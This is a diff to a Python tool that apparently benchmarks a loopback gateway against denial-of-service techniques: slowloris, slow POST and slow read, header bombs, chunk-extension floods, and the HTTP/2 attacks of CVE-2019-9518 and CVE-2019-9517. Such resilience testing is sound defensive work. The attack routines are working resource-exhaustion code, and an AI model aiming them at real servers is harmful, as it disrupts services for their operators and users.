@@ -29,12 +29,13 @@ NOTHING_YET = (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError)
 
 @dataclasses.dataclass
 class Target:
-    """The ports of a gateway on the loopback address, and the path of an answer that is megabytes long."""
+    """The ports of a gateway on the loopback address; paths of an answer of megabytes, and of one that awaits the body."""
 
     http: int
     https: int | None = None
     http2_in_tls: bool = False
     large: str = "/large"
+    upload: str = "/upload"
 
 
 class Connection:
@@ -91,9 +92,9 @@ class Connection:
         """Looks for what the gateway says before it ends a connection."""
         self._unread += data
         if self._unread.startswith(b"HTTP/"):
-            if self._unread.startswith(b"HTTP/1.1 4"):
-                self.end = self._unread[9:12].decode()
             self._unread = self._unread[:12]
+            if len(self._unread) == 12 and self._unread.startswith(b"HTTP/1.1 4"):
+                self.end = self._unread[9:].decode()
         else:
             read, self._unread = frames.parse(self._unread)
             self.end = next((f"GOAWAY {frames.error(frame)}" for frame in read if frame.kind == frames.GOAWAY), None)
@@ -110,7 +111,7 @@ class Connection:
 def hold(open_one, until, count, drip=b"", every=1.0, read=65_536):
     """So many connections at once, each sent a few bytes now and then; those that the gateway ends are opened anew.
 
-    `read` bytes are taken each time, none with 0.
+    At most `read` bytes are taken each time.
     """
     met, held = collections.Counter(), []
     while time.monotonic() < until:
@@ -120,8 +121,7 @@ def hold(open_one, until, count, drip=b"", every=1.0, read=65_536):
             held.append(connection)
         time.sleep(max(0, min(every, until - time.monotonic())))
         for connection in held:
-            if read:
-                connection.look(most=read)
+            connection.look(most=read)
             if drip and connection.end is None:
                 connection.send(drip)
             if connection.end:
@@ -197,14 +197,14 @@ def slowloris(target, until):
 
 def slow_post(target, until):
     """Bodies that come byte by byte."""
-    first = b"POST / HTTP/1.1\r\nHost: bench\r\nContent-Length: 1000000\r\n\r\n"
-    return hold(http1(target, first), until, 100, b"x")
+    first = f"POST {target.upload} HTTP/1.1\r\nHost: bench\r\nContent-Length: 1000000\r\n\r\n".encode()
+    return hold(http1(target, first), until, 60, b"x")
 
 
 def slow_read(target, until):
     """Large answers that are hardly read."""
     first = f"GET {target.large} HTTP/1.1\r\nHost: bench\r\n\r\n".encode()
-    return hold(http1(target, first, receive_buffer=4_096), until, 50, read=1)
+    return hold(http1(target, first, receive_buffer=4_096), until, 30, read=1)
 
 
 def pipelining(target, until):
@@ -243,7 +243,7 @@ def header_bombs(target, until):
 
 def chunk_extensions(target, until):
     """Chunks of a byte, each with an extension of a kilobyte."""
-    first = b"POST / HTTP/1.1\r\nHost: bench\r\nTransfer-Encoding: chunked\r\n\r\n"
+    first = f"POST {target.upload} HTTP/1.1\r\nHost: bench\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
     return flood(http1(target, first), until, b"1;" + b"e" * 1_024 + b"\r\nx\r\n", 1_000)
 
 
@@ -262,7 +262,7 @@ def abandoned_handshakes(target, until):
         connection.send(next(turns))
         return connection
 
-    return hold(open_one, until, 100, read=0)
+    return hold(open_one, until, 100)
 
 
 def handshake_storm(target, until):
@@ -347,21 +347,21 @@ def settings_flood(target, until):
 
 def empty_data(target, until):
     """DATA frames without a byte, on a stream that does not end (CVE-2019-9518)."""
-    first = frames.post(1)
+    first = frames.post(1, target.upload)
     return flood(http2(target, first), until, frames.frame(frames.DATA, 0, 1) * 500, 1_000)
 
 
 def stalled_windows(target, until):
     """Large answers on every stream, and a window that never opens (CVE-2019-9517)."""
     first = b"".join(frames.get(stream, target.large) for stream in range(1, 200, 2))
-    return hold(http2(target, first, settings=[(frames.INITIAL_WINDOW_SIZE, 0)]), until, 20)
+    return hold(http2(target, first, settings=[(frames.INITIAL_WINDOW_SIZE, 0)]), until, 1)
 
 
 def trickled_windows(target, until):
     """Large answers, read a byte at a time."""
     first = b"".join(frames.get(stream, target.large) for stream in range(1, 40, 2))
     drip = b"".join(frames.window_update(stream, 1) for stream in range(1, 40, 2))
-    return hold(http2(target, first, settings=[(frames.INITIAL_WINDOW_SIZE, 0)]), until, 20, drip)
+    return hold(http2(target, first, settings=[(frames.INITIAL_WINDOW_SIZE, 0)]), until, 2, drip)
 
 
 ATTACKS = {
@@ -394,12 +394,13 @@ def main():
     parser.add_argument("--https", type=int, metavar="PORT")
     parser.add_argument("--http2", choices=["cleartext", "tls"], default="cleartext", help="how HTTP/2 is spoken")
     parser.add_argument("--large", default="/large", help="the path of a large answer (/large)")
+    parser.add_argument("--upload", default="/upload", help="a path that is answered when the body is whole (/upload)")
     parser.add_argument("--seconds", type=float, default=20)
     parser.add_argument("attacks", nargs="*", metavar="attack", help="one of " + ", ".join(ATTACKS))
     options = parser.parse_args()
     if unknown := set(options.attacks) - set(ATTACKS):
         parser.error(f"unknown attack: {', '.join(unknown)}")
-    target = Target(options.http, options.https, options.http2 == "tls", options.large)
+    target = Target(options.http, options.https, options.http2 == "tls", options.large, options.upload)
     json.dump(run(options.attacks or list(ATTACKS), target, options.seconds), sys.stdout, indent=2)
     print()
 
